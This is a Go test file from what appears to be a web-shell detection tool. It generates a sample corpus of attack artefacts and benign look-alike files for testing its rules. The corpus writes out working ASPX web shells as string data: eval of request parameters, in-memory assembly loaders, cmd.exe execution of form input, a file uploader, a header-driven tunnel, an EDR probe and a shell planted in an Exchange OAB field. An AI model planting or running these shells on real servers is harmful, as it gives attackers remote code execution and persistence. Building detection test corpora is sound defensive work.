func TestWriteCorpus(t *testing.T) {
	d := os.Getenv("CORPUS_OUT")
	if d == "" {
		t.Skip("set CORPUS_OUT to write the corpus")
	}
	genCorpus(t, d)
}

// campaignFiles are the shells and artefacts exhunt's own rules are for,
// edited as seen in the wild, and the benign files they must not match.
func campaignFiles(rng *rand.Rand) map[string][]byte {
	minidump := func(process string) []byte {
		b := []byte("MDMP\x93\xa7\x00\x00\x0d\x00\x00\x00\x20\x00\x00\x00")
		b = append(b, randBytes(rng, 3000)...)
		b = append(b, utf16le(`C:\Windows\System32\`+process, false)...)
		return append(b, randBytes(rng, 1000)...)
	}
	pst := append([]byte("!BDN\x8b\x5d\x1c\x15SM\x17\x00"), randBytes(rng, 40<<10)...)
	return map[string][]byte{
		"chopper_spaced.aspx":  crlf("<%@ Page Language = \"JScript\" Debug=false %>\n<% eval /*x*/ ( Request [ 'k' ] , 'unsafe' ) ; %>\n"),
		"chopper_form.aspx":    []byte(`<%@ Page Language="Jscript"%><%eval (Request.Form("k"),'unsafe');%>`),
		"chopper_b64eval.aspx": []byte(`<script language="JavaScript" runat="server">function Page_Load(){eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Item["c"])),"unsafe");}</script>`),
		"loader_csharp.aspx":   []byte(`<%@ Page Language="C#" ValidateRequest="false" %><%try{System.Reflection.Assembly.Load(Request.BinaryRead(int.Parse(Request.Cookies["psi"].Value))).CreateInstance("c");}catch{}%>`),
		"loader_b64.aspx":      []byte(`<%@ Page Language="C#" %><% System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["d"])).CreateInstance("U"); %>`),
		"exec_csharp.aspx":     crlf("<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e){ var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + Request.Form[\"c\"])); }\n</script>\n"),
		"runner.aspx": crlf("<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e){\nSystem.Diagnostics.Process process = new System.Diagnostics.Process();\n" +
			"process.StartInfo.FileName = \"cmd.exe\";\nprocess.Start();\nprocess.StandardInput.WriteLine(HttpContext.Current.Request.Form[\"c\"]);\n}\n</script>\n"),
		"edr_probe3.aspx": []byte(`<%@ Page Language="C#"%><%if(System.IO.File.Exists(@"C:\Program Files\SentinelOne\SentinelAgent.exe")){Response.Write("s1");}` +
			`if(System.IO.File.Exists(@"C:\Program Files\Cylance\Desktop\CylanceSvc.exe")){Response.Write("cy");}%>`),
		"uploader.aspx": []byte(`<%@ Page Language="C#"%><%if(Request.Files.Count>0){Request.Files[0].SaveAs(Server.MapPath("~/")+Request.Form["n"]);}%>`),
		"tunnel_headers.aspx": crlf("<%@ Page Language=\"C#\" %>\n<%\nString cmd = Request.Headers.Get(\"X-CMD\");\nif (cmd == \"CONNECT\") { String t = Request.Headers.Get(\"X-TARGET\"); int port = int.Parse(Request.Headers.Get(\"X-PORT\"));\n" +
			"Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); Response.AddHeader(\"X-STATUS\", \"OK\"); }\nelse if (cmd == \"DISCONNECT\") {}\nelse if (cmd == \"READ\") {}\n%>\n"),
		"oab_internalurl.aspx": bytes.Replace(oabDump("EXCH04", ""), []byte("InternalUrl                     : https://exch04.corp.local/OAB"),
			[]byte(`InternalUrl                     : http://x/<script language="JScript" runat="server">function Page_Load(){eval(Request["q"],"unsafe");}</script>`), 1),
		"Ykxa4tHB.aspx": pst,
		"export.pst":    pst,
		"lsass.dmp":     minidump("lsass.exe"),
		"1.dmp":         minidump("lsass.exe"),
		"w3wp.dmp":      minidump(`inetsrv\w3wp.exe`),
		// benign look-alikes
		"feedback.aspx": []byte(`<%@ Page Language="JScript" %><% var name = Request.Form("name"); Response.Write(Server.HtmlEncode(name)); %>`),
		"status.aspx":   crlf("<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) { var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"status.exe\"; p.Start(); }\n</script>\n"),
		"upload_big.aspx": append([]byte(`<%@ Page Language="C#"%><%Request.Files[0].SaveAs(Server.MapPath("~/upload/")+System.IO.Path.GetFileName(Request.Files[0].FileName));%>`),
			bytes.Repeat([]byte("<!-- page body -->\n"), 600)...),
	}
}
